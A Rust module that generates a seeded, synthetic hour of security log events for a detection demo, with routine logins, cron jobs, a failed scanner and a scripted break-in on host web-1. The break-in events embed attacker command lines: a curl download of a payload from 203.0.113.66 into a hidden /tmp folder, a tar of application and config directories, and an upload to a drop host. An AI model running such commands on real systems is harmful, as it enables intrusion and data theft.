//! The story of the demo: an hour of three collectors, most of it harmless.
//!
//! Owns what happens and when; how an event is written is `collectors`' job. An attacker guesses
//! passwords at `web-1` until one fits, starts a program from a temporary folder and uploads what
//! it has packed. Around it people work, mistype passwords and make backups, and a scanner knocks
//! at another host without getting in.
//! Invariant: the same seed gives the same story, event for event, since README's picture and the
//! tests compare it.

use larum_event::Timestamp;
use serde_json::Value;

use super::collectors::{
    LoginAttempt, NetworkFlow, PlannedEvent, ProcessStart, WorkflowStep, assign_times,
    session_event,
};
use super::random::SeededRandom;

/// When the story begins: a night in the past, so that no clock takes it for the future.
const START: &str = "2025-11-20T02:00:00Z";
const SECOND: u64 = 1_000;
const MINUTE: u64 = 60 * SECOND;
const HOUR: u64 = 60 * MINUTE;

/// The host that is broken into.
pub const VICTIM: &str = "web-1";
/// Where the guesses come from.
pub const ATTACKER: &str = "203.0.113.66";
/// Where the loot goes.
const DROP: &str = "198.51.100.23";
/// The loot, and the hash by which the network monitor knows it.
const LOOT: (&str, &str) = (
    "s.tgz",
    "5c8a3f8e2b6d4f1097e1c2ab34d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7",
);
/// Who knocks without getting in.
const SCANNER: &str = "198.51.100.7";
/// Where the backups go, a known address.
const BACKUP: &str = "192.0.2.50";

const HOSTS: [&str; 5] = ["web-1", "web-2", "db-1", "build-1", "mail-1"];
const PEOPLE: [&str; 8] = ["ada", "ben", "cho", "dov", "eve", "fay", "gus", "hal"];
const GUESSED: [&str; 6] = ["root", "admin", "deploy", "test", "oracle", "ubuntu"];
const PROGRAMS: [(&str, &str); 8] = [
    ("/bin/ls", "ls -la /srv"),
    ("/usr/bin/git", "git pull --ff-only"),
    ("/usr/bin/less", "less /var/log/syslog"),
    ("/usr/bin/systemctl", "systemctl status app"),
    ("/usr/bin/psql", "psql -h db-1 app"),
    ("/usr/bin/vim", "vim /etc/app/app.toml"),
    ("/usr/bin/curl", "curl -s http://10.0.0.5/health"),
    ("/usr/bin/rsync", "rsync -a /srv/app/ backup:/srv/app/"),
];
const INSIDE: [&str; 4] = ["10.0.0.5", "10.0.0.12", "10.0.3.7", "192.168.7.20"];

/// The story, event by event.
pub struct DemoStory {
    /// Events in the order of time.
    pub events: Vec<(Timestamp, Value)>,
    /// The correlation id at the root of the incident.
    pub incident: String,
}

/// The story of a seed.
pub fn build_story(seed: u64) -> DemoStory {
    let mut builder = StoryBuilder {
        random: SeededRandom::new(seed),
        planned: Vec::new(),
        contacts: 0,
        processes: 1_000,
        flows: 0,
    };
    let mut at = 0;
    while at < HOUR {
        builder.plan_work_session(at);
        at += builder.random.number_between(8 * SECOND, 24 * SECOND);
    }
    for minute in 0..60 {
        builder.plan_scheduled_jobs(minute * MINUTE + 30 * SECOND);
    }
    builder.plan_scanner(11 * MINUTE);
    let incident = builder.plan_incident(24 * MINUTE);
    let start = Timestamp::parse(START).expect("the start is a time");
    DemoStory {
        events: assign_times(start, builder.planned),
        incident,
    }
}

/// A person at a host.
#[derive(Clone, Copy)]
struct DemoUser<'a> {
    host: &'a str,
    user: &'a str,
}

/// The process that opens a connection, and its host.
struct FlowOrigin<'a> {
    step: &'a WorkflowStep,
    host: &'a str,
}

struct StoryBuilder {
    random: SeededRandom,
    planned: Vec<PlannedEvent>,
    contacts: u64,
    processes: u64,
    flows: u64,
}

impl StoryBuilder {
    /// A person logs in, sometimes at the second try, works for a while and leaves.
    fn plan_work_session(&mut self, begin: u64) {
        let user = *self.random.pick_one(&PEOPLE);
        let host = *self.random.pick_one(&HOSTS);
        let address = format!(
            "10.1.{}.{}",
            self.random.number_between(0, 3),
            self.random.number_between(2, 250)
        );
        let contact = self.next_contact();
        let mut login = LoginAttempt {
            step: &contact,
            host,
            address: &address,
            user,
            method: "publickey",
            outcome: "success",
        };
        let mut at = begin;
        if self.random.chance(15) {
            login.method = "password";
            login.outcome = "failure";
            for _ in 0..self.random.number_between(1, 2) {
                self.plan_event(at, login.to_event());
                at += self.random.number_between(2 * SECOND, 9 * SECOND);
            }
            login.outcome = "success";
        }
        self.plan_event(at, login.to_event());
        let opened = self.open_session(&contact, host, user, at + 50);
        let shell = self.start_shell(&opened, DemoUser { host, user }, at + 90);
        at += 90;
        for _ in 0..self.random.number_between(3, 9) {
            at += self.random.number_between(SECOND, 40 * SECOND);
            let (image, command) = *self.random.pick_one(&PROGRAMS);
            let step = self.next_process(&shell);
            let process = ProcessStart {
                step: &step,
                host,
                user,
                image,
                command,
                parent_image: "/bin/bash",
            };
            self.plan_event(at, process.to_event());
            if self.random.chance(45) {
                let address = *self.random.pick_one(&INSIDE);
                let (bytes_out, port) = (self.random.number_between(300, 90_000), 443);
                let process = FlowOrigin { step: &step, host };
                self.plan_flow(process, (address, port), bytes_out, at + 700);
            }
        }
        // The session closes after its last process has started, so that its tree is complete.
        let end = at + self.random.number_between(5 * SECOND, 60 * SECOND);
        self.plan_event(end, session_event(&opened, host, user, false));
    }

    /// Every minute each host runs its jobs; the database is backed up to a known address.
    fn plan_scheduled_jobs(&mut self, at: u64) {
        for host in HOSTS {
            let job = WorkflowStep::job(format!("job-{host}-{}", at / MINUTE));
            let step = self.next_process(&job);
            let process = ProcessStart {
                step: &step,
                host,
                user: "root",
                image: "/usr/sbin/logrotate",
                command: "logrotate /etc/logrotate.conf",
                parent_image: "/usr/sbin/cron",
            };
            let jitter = self.random.number_between(0, 900);
            self.plan_event(at + jitter, process.to_event());
            if host == "db-1" && (at / MINUTE).is_multiple_of(15) {
                let process = FlowOrigin { step: &step, host };
                self.plan_flow(process, (BACKUP, 22), 80_000_000, at + 20 * SECOND);
            }
        }
    }

    /// A scanner fails a few times and goes: one alert, and nothing comes of it.
    fn plan_scanner(&mut self, begin: u64) {
        let contact = self.next_contact();
        for attempt in 0..7 {
            let login = LoginAttempt {
                step: &contact,
                host: "mail-1",
                address: SCANNER,
                user: "root",
                method: "password",
                outcome: "failure",
            };
            let jitter = self.random.number_between(0, 4 * SECOND);
            self.plan_event(begin + attempt * 12 * SECOND + jitter, login.to_event());
        }
    }

    /// The break-in; the answer is its root.
    fn plan_incident(&mut self, begin: u64) -> String {
        // Numbers are drawn in the order of the story. Drawing one earlier would change every later
        // one, and with them the picture in README.
        let contact = self.next_contact();
        let user = "deploy";
        let mut login = LoginAttempt {
            step: &contact,
            host: VICTIM,
            address: ATTACKER,
            user,
            method: "password",
            outcome: "failure",
        };
        let mut at = begin;
        for _ in 0..48 {
            login.user = *self.random.pick_one(&GUESSED);
            self.plan_event(at, login.to_event());
            at += self.random.number_between(2 * SECOND, 5 * SECOND);
        }
        login.user = user;
        login.outcome = "success";
        self.plan_event(at, login.to_event());
        let opened = self.open_session(&contact, VICTIM, user, at + 60);
        let shell = self.start_shell(&opened, DemoUser { host: VICTIM, user }, at + 110);

        let step = self.next_process(&shell);
        let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
        self.plan_process(
            &step,
            ["/usr/bin/curl", download, "/bin/bash"],
            at + 40 * SECOND,
        );
        let process = FlowOrigin {
            step: &step,
            host: VICTIM,
        };
        self.plan_flow(process, (ATTACKER, 80), 420, at + 41 * SECOND);

        let worker = self.next_process(&shell);
        let image = "/tmp/.x/kworker";
        self.plan_process(
            &worker,
            [image, "/tmp/.x/kworker -q", "/bin/bash"],
            at + 75 * SECOND,
        );

        let step = self.next_process(&worker);
        let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
        self.plan_process(&step, ["/bin/tar", pack, image], at + 3 * MINUTE);
        self.plan_upload(&worker, at + 6 * MINUTE);
        self.plan_event(at + 8 * MINUTE, session_event(&opened, VICTIM, user, false));
        contact.id
    }

    /// A process of the break-in: image, command line and the parent's image.
    fn plan_process(
        &mut self,
        step: &WorkflowStep,
        [image, command, parent_image]: [&str; 3],
        at: u64,
    ) {
        let process = ProcessStart {
            step,
            host: VICTIM,
            user: "deploy",
            image,
            command,
            parent_image,
        };
        self.plan_event(at, process.to_event());
    }

    fn open_session(
        &mut self,
        contact: &WorkflowStep,
        host: &str,
        user: &str,
        at: u64,
    ) -> WorkflowStep {
        let number = contact.id.trim_start_matches("contact-");
        let step = contact.child_step(format!("session-{number}"), "session");
        self.plan_event(at, session_event(&step, host, user, true));
        step
    }

    /// The shell of a session.
    fn start_shell(
        &mut self,
        opened: &WorkflowStep,
        DemoUser { host, user }: DemoUser<'_>,
        at: u64,
    ) -> WorkflowStep {
        let step = self.next_process(opened);
        let process = ProcessStart {
            step: &step,
            host,
            user,
            image: "/bin/bash",
            command: "-bash",
            parent_image: "/usr/sbin/sshd",
        };
        self.plan_event(at, process.to_event());
        step
    }

    /// A connection that a process on a host opened, to an address and port.
    fn plan_flow(&mut self, process: FlowOrigin<'_>, to: (&str, u16), bytes_out: u64, at: u64) {
        self.flows += 1;
        let step = process
            .step
            .child_step(format!("flow-{}", self.flows), "network");
        let flow = NetworkFlow {
            step: &step,
            host: process.host,
            address: to.0,
            port: to.1,
            bytes_out,
            bytes_in: self.random.number_between(200, 40_000),
            file: None,
        };
        self.plan_event(at, flow.to_event());
    }

    /// The loot leaves.
    fn plan_upload(&mut self, process: &WorkflowStep, at: u64) {
        self.flows += 1;
        let step = process.child_step(format!("flow-{}", self.flows), "network");
        let flow = NetworkFlow {
            step: &step,
            host: VICTIM,
            address: DROP,
            port: 443,
            bytes_out: 48_731_204,
            bytes_in: self.random.number_between(200, 40_000),
            file: Some(LOOT),
        };
        self.plan_event(at, flow.to_event());
    }

    fn next_contact(&mut self) -> WorkflowStep {
        self.contacts += 1;
        WorkflowStep::contact(self.contacts)
    }

    fn next_process(&mut self, parent: &WorkflowStep) -> WorkflowStep {
        self.processes += 1;
        parent.child_step(format!("process-{}", self.processes), "execution")
    }

    fn plan_event(&mut self, at: u64, event: Value) {
        self.planned.push(PlannedEvent { at, event });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_story_is_an_hour_of_thousands_of_events_in_order_and_its_seed_decides_it() {
        let story = build_story(7);
        assert!(story.events.len() > 2_000, "{}", story.events.len());
        assert!(story.events.is_sorted_by_key(|(time, _)| *time));
        let (first, last) = (
            story.events.first().unwrap().0,
            story.events.last().unwrap().0,
        );
        let minutes = last.duration_since(first).as_nanos() / 60_000_000_000;
        assert!((59..75).contains(&minutes), "{minutes} minutes");
        assert_eq!(story.events, build_story(7).events);
        assert_ne!(story.events, build_story(8).events);
    }
}
